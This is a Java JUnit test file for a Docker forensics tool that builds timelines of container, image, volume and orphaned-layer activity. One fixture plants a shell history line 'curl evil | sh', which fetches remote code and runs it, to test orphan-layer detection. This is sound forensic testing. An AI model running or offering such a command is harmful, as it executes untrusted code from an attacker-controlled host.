package io.github.drydock;

import com.fasterxml.jackson.databind.JsonNode;
import io.github.drydock.archive.Timeline;
import io.github.drydock.archive.TimelineFormat;
import io.github.drydock.json.Json;
import io.github.drydock.model.TimelineEvent;
import io.github.drydock.testing.ForensicRoots;
import io.github.drydock.testing.Fixtures;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

import static io.github.drydock.testing.TestFiles.write;
import static org.assertj.core.api.Assertions.assertThat;

class ForensicsTimelineTest {
    @TempDir
    Path tmp;

    private static String timeline(Path root, TimelineFormat format) throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Timeline.Result result = Forensics.of(DockerRoot.open(root)).timeline(out, format);
        assertThat(result.problems()).isEmpty();
        return out.toString(StandardCharsets.UTF_8);
    }

    private static List<String> row(List<List<String>> rows, String name) {
        return rows.stream().filter(r -> r.get(1).equals(name)).findFirst()
                .orElseThrow(() -> new AssertionError("no row " + name));
    }

    @Test
    void dockerdTimelineHasTheRecordedStartAndFinishOfCRun() throws Exception {
        JsonNode state = Json.MAPPER.readTree(String.join("\n",
                ForensicRoots.reference("overlay2", "container-c-run.json"))).get(0).get("State");
        Instant started = Instant.parse(state.get("StartedAt").asText());
        Instant finished = Instant.parse(state.get("FinishedAt").asText());
        Path root = ForensicRoots.dockerd("overlay2", tmp);

        List<List<String>> csv = ForensicRoots.csv(timeline(root, TimelineFormat.CSV));
        List<List<String>> body = ForensicRoots.bodyfile(timeline(root, TimelineFormat.BODYFILE));

        assertThat(state.get("ExitCode").asInt()).isEqualTo(3);
        assertThat(row(csv, "[docker] container started /c-run").subList(7, 11))
                .containsExactly(started.toString(), started.toString(), started.toString(), "");
        assertThat(row(csv, "[docker] container finished /c-run (exit 3)").get(8)).isEqualTo(finished.toString());
        assertThat(row(body, "[docker] container finished /c-run (exit 3)").subList(7, 11)).containsExactly(
                s(finished), s(finished), s(finished), "0");
        assertThat(row(csv, "[docker] container log first line /c-run (stdout)").get(8))
                .isEqualTo("2026-12-04T20:18:31.447317627Z");
        assertThat(row(csv, "[docker] container log last line /c-run (stderr)").get(8))
                .isEqualTo("2026-12-04T20:18:31.453878428Z");
        assertThat(row(csv, "[docker] image created example/app:1 example/app:latest (sha256:6138834b2766)").get(8))
                .isEqualTo("2026-12-04T20:18:28.208175316Z");
        assertThat(row(csv, "[docker] container created /c-cp (fc63ea3ae986)")).isNotNull();
        assertThat(row(csv, "[docker] volume created namedvol")).isNotNull();
        assertThat(csv).filteredOn(r -> r.get(1).startsWith("[docker] container started")).hasSize(1);
    }

    private static String s(Instant time) {
        return Long.toString(time.getEpochSecond());
    }

    @Test
    void dockerdTimelineNamesEveryEntryByWhereItLives() throws Exception {
        Path root = ForensicRoots.dockerd("overlay2", tmp);

        List<List<String>> body = ForensicRoots.bodyfile(timeline(root, TimelineFormat.BODYFILE));

        assertThat(row(body, "image:example/base:1 layer:41c27f59382d:/bin/tool").get(6)).isEqualTo("8736");
        assertThat(row(body, "container:/c-run:/var/newdir/deeper/deep.txt").get(3)).isEqualTo("-rw-r--r--");
        assertThat(row(body, "container-init:/c-run:/etc/hostname")).isNotNull();
        assertThat(row(body, "volume:namedvol:/seed.txt")).isNotNull();
        assertThat(row(body, "volume:namedvol:/")).isNotNull();
        assertThat(body).noneSatisfy(r -> assertThat(r.get(1)).startsWith("orphan-layer:"));
        assertThat(body).allSatisfy(r -> assertThat(r).hasSize(11));
    }

    @Test
    void seedTimelineWalksVolumesOnceAndNamesOrphans() throws Exception {
        Path root = ForensicRoots.seed(tmp);
        String gone = "0123456789abcdef".repeat(4);
        write(root.resolve("aufs/diff/" + gone + "/root/.bash_history"), "curl evil | sh\n");

        List<List<String>> body = ForensicRoots.bodyfile(timeline(root, TimelineFormat.BODYFILE));

        String mysqlVolume = "cb4012594631102fc8a69aa6cb4a9aa2dd2be3d39d2564c94ae91ac5e3eb4aec";
        assertThat(body).filteredOn(r -> r.get(1).equals("volume:" + mysqlVolume + ":/ibdata1")).hasSize(1);
        assertThat(body).noneSatisfy(r -> assertThat(r.get(1)).contains("layer:" + mysqlVolume.substring(0, 12)));
        assertThat(row(body, "orphan-layer:" + gone + ":/root/.bash_history").get(6)).isEqualTo("15");
        assertThat(row(body, "container:/mediawiki_mysql_1:/tmp/mysql-first-time.sql")).isNotNull();
        assertThat(row(body, "image:mysql:5.7.5 layer:c171a2256c3b:/")).isNotNull();
        assertThat(row(body, "[docker] container finished /mediawiki_mediawiki_1 (exit 137)")).isNotNull();
        assertThat(row(body, "[docker] image created mysql:5.7.5 (sha256:c171a2256c3b)")).isNotNull();
    }

    @Test
    void eventsAreSortedOldestFirst() throws Exception {
        List<TimelineEvent> events = Forensics.of(DockerRoot.open(ForensicRoots.seed(tmp))).events();

        assertThat(events).isSortedAccordingTo(java.util.Comparator.comparing(TimelineEvent::time));
        assertThat(events.get(0).name()).isEqualTo(
                "[docker] image created <none> (sha256:511136ea3c5a)");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"truncated-json", "dangling-parent", "parent-cycle", "missing-diff", "container-without-image",
            "ambiguous-prefix", "bad-repositories", "symlink-escape", "corrupt-linkgraph"})
    void brokenRootsStillGiveATimeline(String name) throws Exception {
        DockerRoot root = DockerRoot.open(Fixtures.materialize("broken/" + name, tmp));
        ByteArrayOutputStream out = new ByteArrayOutputStream();

        Timeline.Result result = Forensics.of(root).timeline(out, TimelineFormat.BODYFILE);

        List<List<String>> body = ForensicRoots.bodyfile(out.toString(StandardCharsets.UTF_8));
        assertThat(body).anySatisfy(r -> assertThat(r.get(1)).startsWith("[docker] container created /"));
        assertThat(body).anySatisfy(r -> assertThat(r.get(1))
                .contains("layer:fa8f1b84172b:/"));
        assertThat(result.problems()).containsAll(root.problems());
        assertThat(body).noneSatisfy(r -> assertThat(r.get(1)).contains("/shadow:").contains("root:"));
    }
}
